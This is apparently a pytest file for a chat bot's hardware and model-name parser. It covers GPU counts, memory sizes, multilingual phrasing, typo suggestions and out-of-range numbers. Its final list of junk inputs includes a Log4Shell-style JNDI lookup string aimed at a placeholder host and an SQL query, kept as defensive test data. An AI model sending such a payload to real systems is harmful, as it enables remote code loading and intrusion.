"""Rules added in the ninth round of hardware phrases and model names as people write them (round 2, session 16):
ratios and shares said beside a rig, memory words joined by hyphens, workstation boxes around the parts, counts and
sizes said in other languages and layouts, typed model numbers with two digits swapped, and numbers no rig can have.
Each case is read with the real catalog; the phrases the rules came from are rows of tests/data/hardware_phrases.yaml
and tests/data/model_names.yaml."""

from __future__ import annotations

import pytest

from bot.commands import INTERNAL_ERROR, fit_answer
from catalog.catalog import Catalog
from engine.errors import ErrorCode, RigfitError
from engine.parse import parse_hardware, parse_model

# phrase -> the first reading's label
HARDWARE = [
    # a ratio said with `x` before a comparison is no count (`6x behind`, `10x faster`, `3x the speed`)
    ("prefill ~16 tok/s on fp16-less NVIDIA (GTX 1070/Pascal) — 6x behind RDNA1", "NVIDIA GeForce GTX 1070"),
    ("runs Mistral 10x faster on my 6600M GPU", "AMD Radeon RX 6600M"),
    ("a 4090 gives 3x the speed of my old card", "NVIDIA GeForce RTX 4090"),
    # a share of a size said before is part of it (`of which about 2GB is consumed`)
    ("A T4 instance has 12.7GB of system memory available, of which about 2GB is consumed", "NVIDIA Tesla T4 + 13 GB"),
    ("64GB RAM, of which 8GB is reserved for the iGPU, and an RTX 3060 12GB", "NVIDIA GeForce RTX 3060 12GB + 64 GB"),
    # a fraction below one without a unit is a rate (`acceptance 0.895`), never a device
    ("RTX 3060 Ti 8GB + RTX 3080 Ti 12GB, acceptance 0.895.", "NVIDIA GeForce RTX 3060 Ti + NVIDIA GeForce RTX 3080"),
    # software whose name holds a digit is no model number
    ("GPT4All on an RX 7600", "AMD Radeon RX 7600"),
    # a PC maker's workstation line with its model code is the box, not a device
    ("P40 on Dell Precision T760 workstation", "NVIDIA Tesla P40 24GB"),
    ("OptiPlex 7090 with a 3060", "NVIDIA GeForce RTX 3060 12GB"),
    # a gfx target with its feature flags after a named card says the card again
    ("Radeon VII gfx906:sramecc-:xnack-", "AMD Radeon VII"),
    # a table row whose columns repeat one value: the same part in compared setups, said once
    ("| 内存 | 64GB DDR5 5600MHz | 64GB DDR5 5600MHz |", "64 GB DDR5-5600"),
    # counts after the card in Chinese, count words in Italian/Spanish/French, a total said of the cards
    ("显卡4090，两张，显存24G单张", "2x NVIDIA GeForce RTX 4090"),
    ("include due GPU RTX Pro 6000 da 600W, per un totale di 192GB di VRAM", "2x NVIDIA RTX PRO 6000 Blackwell"),
    ("mi equipo tiene dos tarjetas RTX 3090", "2x NVIDIA GeForce RTX 3090"),
    # a card with its count and size in brackets; `both ... cards`
    ("Verified single-node serving on MI300X (8×192 GB, CDNA 3)", "8x AMD Instinct MI300X"),
    ("This TP=2 service uses both B70 cards.", "2x Intel Arc Pro B70 32GB"),
    # glued suffixes and prefixes (`4080Super`, `WX9100`), RAM said `内存64G`
    ("RTX 4080Super 16G 内存64G 能跑多少B的模型", "NVIDIA GeForce RTX 4080 Super + 64 GB"),
    ("4 x AMD WX9100", "4x AMD Radeon Pro WX 9100"),
    # a board's lanes and dash bullets, sticks said count first, a CPU's clock written `2.7G` and its count `x2块`
    (
        "CPU: E5-2680v4\n— 40 PCIe 3.0 lanes\n— 4 memory channels\nMotherboard: X99, 4 x DDR4 8G memory sticks",
        "32 GB DDR4-2400 4-channel",
    ),
    ("CPU：至强铂金8168 2.7G 24核48线程 x2块\n内存：DDR4 32Gx16条=512G", "512 GB DDR4-2666"),
    # a memory field on a GPU's line is the card's, not RAM
    ("vllm==0.5.4\nGPU: L20, Memory 46GB", "NVIDIA L20"),
    # a Hugging Face endpoint's size before its card; a Chinese label naming the setup before its line
    ('select "GPU [medium] - 1x Nvidia A10G"', "NVIDIA A10G"),
    ("- 双卡测试：2×NVIDIA RTX 4090（NVLink桥接）", "2x NVIDIA GeForce RTX 4090"),
    # a cluster said as nodes each with cards
    ("deployment is done using four A100 nodes, each with 8 80GB GPUs.", "4 nodes of 8x NVIDIA A100 80GB"),
    # a table's card cell and the size cell after it; Apple core counts in a table's cells
    ("| **ace-linux-2** (dev-secondary) | NVIDIA T400 | 4 GB | 7.5 |", "NVIDIA T400 4 GB"),
    ("| M3 Ultra (binned) | 28c (20P+8E) | 60c | from 96 GB |", "Apple M3 Ultra 96GB"),
    # another card compared, another setup that worked, some of the cards said by how they connect, a card said again
    ("my RX 470 is able to get about 20 token/s, half of the RX6500 XT", "AMD Radeon RX 470"),
    ("failed to run on 4 L20 GPUs, but success on 2 L20 GPUs", "4x NVIDIA L20"),
    ("4 x AMD WX9100, 2 connected via 16x -> 4x 1x PCIe splitters", "4x AMD Radeon Pro WX 9100"),
    ("I have a pair of MI100s and a pair of W6800s and the W6800s are a lot faster", "2x AMD Instinct MI100 + 2x"),
    # a gfx target beside a named AMD card
    ("my RX7600 corresponds to gfx1102. But it is gfx1100 that is tested.", "AMD Radeon RX 7600"),
    # words joined by a hyphen that say memory
    ("M4 Max with 36GB of unified-memory", "Apple M4 Max (32-core GPU) 36GB"),
]


@pytest.mark.parametrize(("phrase", "label"), HARDWARE, ids=[c[0][:40] for c in HARDWARE])
def test_hardware_as_people_write_it(real_catalog: Catalog, phrase: str, label: str) -> None:
    assert parse_hardware(phrase, real_catalog)[0].label.startswith(label)


@pytest.mark.parametrize(
    ("phrase", "suggested"),
    [
        # a model number typed with two neighbouring digits swapped: the card it was meant to be is suggested first
        ("gpu nvidia 4900, 128 gb ram", "NVIDIA GeForce RTX 4090"),
        ("rtx 3009", "NVIDIA GeForce RTX 3090"),
        ("rtx 4009", "NVIDIA GeForce RTX 4090"),
    ],
)
def test_a_swapped_model_number_is_asked_about(real_catalog: Catalog, phrase: str, suggested: str) -> None:
    with pytest.raises(RigfitError) as err:
        parse_hardware(phrase, real_catalog)
    assert err.value.suggestions[0] == suggested


@pytest.mark.parametrize(
    ("phrase", "code"),
    [
        # numbers no rig can have are refused, naming what was written; a bullet's dash is not a minus
        ("-1x RTX 3090", ErrorCode.COUNT_OUT_OF_RANGE),
        ("99999999999x H100", ErrorCode.COUNT_OUT_OF_RANGE),
        ("NaN GB", ErrorCode.SIZE_OUT_OF_RANGE),
        ("inf GB RAM", ErrorCode.SIZE_OUT_OF_RANGE),
        ("-64GB RAM + 3090", ErrorCode.NEGATIVE_SIZE),  # the sign kept, as before this round
    ],
)
def test_numbers_no_rig_has_are_refused(real_catalog: Catalog, phrase: str, code: ErrorCode) -> None:
    with pytest.raises(RigfitError) as err:
        parse_hardware(phrase, real_catalog)
    assert err.value.code is code


@pytest.mark.parametrize(
    ("phrase", "label"),
    [
        ("- 2x 3090\n- 64gb ram", "2x NVIDIA GeForce RTX 3090 + 64 GB"),
        ("1920x1080 4090", "NVIDIA GeForce RTX 4090"),
        ("RTX 4090 (2000x speedup over CPU)", "NVIDIA GeForce RTX 4090"),
    ],
)
def test_numbers_that_look_unreadable_but_are_not(real_catalog: Catalog, phrase: str, label: str) -> None:
    assert parse_hardware(phrase, real_catalog)[0].label.startswith(label)


# name -> catalog id (None: sized by the name alone) and parameters in billions
MODELS = [
    ("qwen72b-chat-q4_0", None, 72.3),  # a family glued to its size, with a suffix after
    ("models/deepseek-ai/DeepSeek-V4-Flash.yaml", "deepseek-v4-flash", None),  # a config file named after the model
    ("models/Qwen/Qwen3-8B", "qwen3-8b", None),  # a relative path: its last two parts are the repo id
    ("llama7b", None, 7.0),  # the eighth round's form still reads
]


@pytest.mark.parametrize(("name", "model_id", "params"), MODELS, ids=[c[0] for c in MODELS])
def test_model_names_around_the_name(
    real_catalog: Catalog, name: str, model_id: str | None, params: float | None
) -> None:
    model = parse_model(name, real_catalog)
    if model_id is not None:
        assert model.id == model_id
    if params is not None:
        assert model.total_params_b == pytest.approx(params, rel=0.1)


# Junk and hostile inputs: each must be refused by both parsers with one line, and /fit must answer with that line,
# never an internal error. From pages: comments left on issues (`O hell yeah` on ollama#2033, `关注` "following" on
# ktransformers#319, `Dup of #2503` on ollama#3572, `Cool, thanks! :fire:` on huggingface/blog#1341, an issue
# template's unfilled `Your output of ...here` on vllm#18603, collect_env's `Could not collect`, `same error :-1:` on
# vllm#188, a `TODO` on geerlingguy/ai-benchmarks#13); the rest are inputs a hostile user would try, and numbers no
# rig has (the eighth round's `-1x`, `99999999999x`, `NaN GB` had been read as hardware).
JUNK = [
    "O hell yeah",
    "关注",
    "Dup of #2503",
    "Cool, thanks! :fire:",
    "Your output of `python collect_env.py` here",
    "Could not collect",
    "same error :-1:",
    "TODO",
    "Yeah but ROCm doesnt run on my GPU from AMD",
    "-1x RTX 3090",
    "99999999999x H100",
    "NaN GB",
    "inf GB RAM",
    "RTX 4090 x 0",
    "\u200b\u200b",
    "A" * 5000,
    "${jndi:ldap://example.invalid/a}",
    "👍👍👍",
    "SELECT * FROM gpus",
    "0.0.0.0:11434",
]


@pytest.mark.parametrize("text", JUNK, ids=[repr(j)[:30] for j in JUNK])
def test_junk_gets_one_line(real_catalog: Catalog, text: str) -> None:
    for parse in (parse_hardware, parse_model):
        with pytest.raises(RigfitError) as err:
            parse(text, real_catalog)
        said = str(err.value)
        assert said and "\n" not in said
    answer = fit_answer(real_catalog, text, text)
    assert answer.error and answer.error != INTERNAL_ERROR and "\n" not in answer.error
